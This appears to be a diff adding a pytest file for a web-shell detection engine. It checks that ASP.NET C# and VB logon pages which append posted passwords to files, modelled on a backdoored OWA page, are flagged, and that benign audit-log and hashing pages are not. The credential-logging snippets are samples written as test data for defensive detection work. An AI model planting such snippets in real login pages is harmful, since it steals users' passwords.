@@ -1,0 +1,105 @@
+"""Behaviour engine, session 21 (issue 14, A15).
+
+Each group is an item left by session 20 (``/work/notes/report_A14.md``, "What is left") or a request of this session
+(``/work/notes/to_a15.md``): harmless reproductions of a shape that must be found, and ordinary pages of the same
+make that stay silent. The pages were written for these tests: nothing is compiled or run, names, files and hosts are
+placeholders, and none is a copy of a real shell.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from .rule_tables import sinks_of as _sinks
+
+# --- A posted password written to a file (X49's request 3, session 20) -----------------------------------------------
+# X26's OWA logon page, backdoored, appended each user name and password to a file. request-harvest took it when the
+# path was a literal drive path; under the site or App_Data (X44's 39 cred-logger siblings) only YARA found it.
+
+_CS_PAGE = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e) {
+    if (!IsPostBack) return;
+    string who = Request.Form["username"];
+    BODY
+}
+</script>
+<form method="post"><input name="username" /><input name="password" type="password" /></form>
+"""
+_VB_PAGE = """<%@ Page Language="VB" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+Sub Page_Load()
+    Dim who As String = Request.Form("username")
+    BODY
+End Sub
+</script>
+"""
+
+_PASSWORD_WRITTEN = [
+    # (language, body): a request value read by a password's key reaching a file write
+    ("cs", 'File.AppendAllText(Server.MapPath("~/App_Data/s.log"), who + ":" + Request.Form["password"] + "\\r\\n");'),
+    ("cs", 'string pw = Request.Params["passwd"];\n    File.AppendAllText(Server.MapPath("~/App_Data/s.log"), who + "|" + pw);'),
+    ("cs", 'using (var w = new StreamWriter(Server.MapPath("~/images/t.gif"), true)) { w.WriteLine(who + " " + Request["pwd"]); }'),
+    ("cs", 'var r = Context.Request;\n    File.WriteAllText(MapPath("x.dat"), r.Form.Get("passwordText"));'),
+    ("cs", 'string line = String.Format("{0}:{1}", who, Request.Form["txtPassword"]);\n    File.AppendAllLines(Path.Combine(Path.GetTempPath(), "u.txt"), new[] { line });'),
+    ("vb", 'File.AppendAllText(Server.MapPath("~/App_Data/s.log"), who & ":" & Request.Form("password") & vbCrLf)'),
+    ("vb", 'Dim p As String = Request("PASSWORD")\n    My.Computer.FileSystem.WriteAllText(MapPath("s.log"), who & p, True)'),
+]
+
+_ORDINARY = [
+    # a logon page that logs who signed in, never the password
+    ("cs", 'File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), who + " signed in\\r\\n");'),
+    # a password only compared with a stored one
+    ("cs", 'if (File.ReadAllText(Server.MapPath("~/App_Data/p.txt")) == Request.Form["password"]) Session["ok"] = who;'),
+    # a user store that keeps a hash of the password
+    (
+        "cs",
+        "var h = System.Security.Cryptography.SHA256.Create().ComputeHash(System.Text.Encoding.UTF8.GetBytes("
+        'Request.Form["password"]));\n    File.AppendAllText(Server.MapPath("~/App_Data/users.txt"), who + ":" + '
+        "Convert.ToBase64String(h));",
+    ),
+    # an installer writing the database password into the site's configuration
+    (
+        "cs",
+        'File.WriteAllText(Server.MapPath("~/web.config"), File.ReadAllText(Server.MapPath("~/web.template"))'
+        '.Replace("{pwd}", Request.Form["dbPassword"]));',
+    ),
+    # a change-password note that names the word only in its text
+    ("cs", 'File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), "password changed for " + who);'),
+    ("vb", 'File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), who & " signed in" & vbCrLf)'),
+]
+
+
+def _page(lang: str, body: str) -> str:
+    return (_CS_PAGE if lang == "cs" else _VB_PAGE).replace("BODY", body)
+
+
+@pytest.mark.parametrize(("lang", "body"), _PASSWORD_WRITTEN)
+def test_a_posted_password_written_to_a_file_is_a_credential_logger(lang: str, body: str) -> None:
+    assert "password-to-file" in _sinks(_page(lang, body))
+
+
+@pytest.mark.parametrize(("lang", "body"), _ORDINARY)
+def test_a_logon_page_that_writes_no_password_stays_silent(lang: str, body: str) -> None:
+    assert _sinks(_page(lang, body)) == set()
+
+
+def test_a_posted_password_in_a_handler_and_its_hashed_twin() -> None:
+    handler = """<%@ WebHandler Language="C#" Class="H" %>
+using System.IO; using System.Web;
+public class H : IHttpHandler {
+    public void ProcessRequest(HttpContext ctx) {
+        string u = ctx.Request.Form["username"], p = ctx.Request.Form["password"];
+        WRITE
+        ctx.Response.Redirect("/owa/");
+    }
+    public bool IsReusable { get { return false; } }
+}
+"""
+    plain = 'File.AppendAllText(ctx.Server.MapPath("~/App_Data/l.txt"), u + ":" + p);'
+    assert "password-to-file" in _sinks(handler.replace("WRITE", plain), ".ashx")
+    kept = 'File.AppendAllText(ctx.Server.MapPath("~/App_Data/l.txt"), u + ":" + Crypto.HashPassword(p));'
+    assert _sinks(handler.replace("WRITE", kept), ".ashx") == set()
+
